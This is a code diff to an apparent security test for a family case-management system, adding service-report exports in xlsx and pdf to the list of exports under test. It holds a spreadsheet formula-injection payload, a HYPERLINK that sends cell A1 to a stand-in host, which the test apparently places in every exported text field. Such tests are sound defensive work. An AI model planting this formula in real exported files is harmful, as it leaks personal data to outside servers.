@@ -32,6 +32,7 @@ from familycase.reports.cost_return_pdf import write_cost_return_pdf
 from familycase.reports.cost_return_xlsx import write_cost_return_xlsx
 from familycase.reports.panel_pdf import write_panel_pack
 from familycase.reports.referral_letter_pdf import write_letter
+from familycase.reports.service_report import write_service_report
 from familycase.reports.subject_access_pdf import write_subject_access
 from familycase.services import (
     audit_log,
@@ -51,6 +52,7 @@ from familycase.services import (
 from familycase.services import consent as consent_service
 from familycase.services.consent import Recipient
 from familycase.services.exchange import export_summaries
+from familycase.services.service_report import service_report
 
 # Text that a spreadsheet would run as a formula, in every text field that reaches an export.
 PAYLOAD = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
@@ -198,6 +200,14 @@ def _cohort_csv(env, target: Path) -> None:
     write_cohort_csv(env.boss, cohort.cohort_report(env.boss), target)
 
 
+def _service_report(fmt: str) -> Callable[..., None]:
+    def produce(env, target: Path) -> None:
+        report = service_report(env.boss, date.today() - timedelta(days=60), date.today())
+        write_service_report(env.boss, report, target, fmt)
+
+    return produce
+
+
 PRODUCE: dict[str, Callable[..., None]] = {
     "document_copy": _document_copy,
     "referral_letter": _referral_letter,
@@ -213,6 +223,8 @@ PRODUCE: dict[str, Callable[..., None]] = {
     "cost_return_pdf": _cost_return("pdf"),
     "claims_csv": _claims_csv,
     "cohort_csv": _cohort_csv,
+    "service_report_xlsx": _service_report("xlsx"),
+    "service_report_pdf": _service_report("pdf"),
 }
 
 
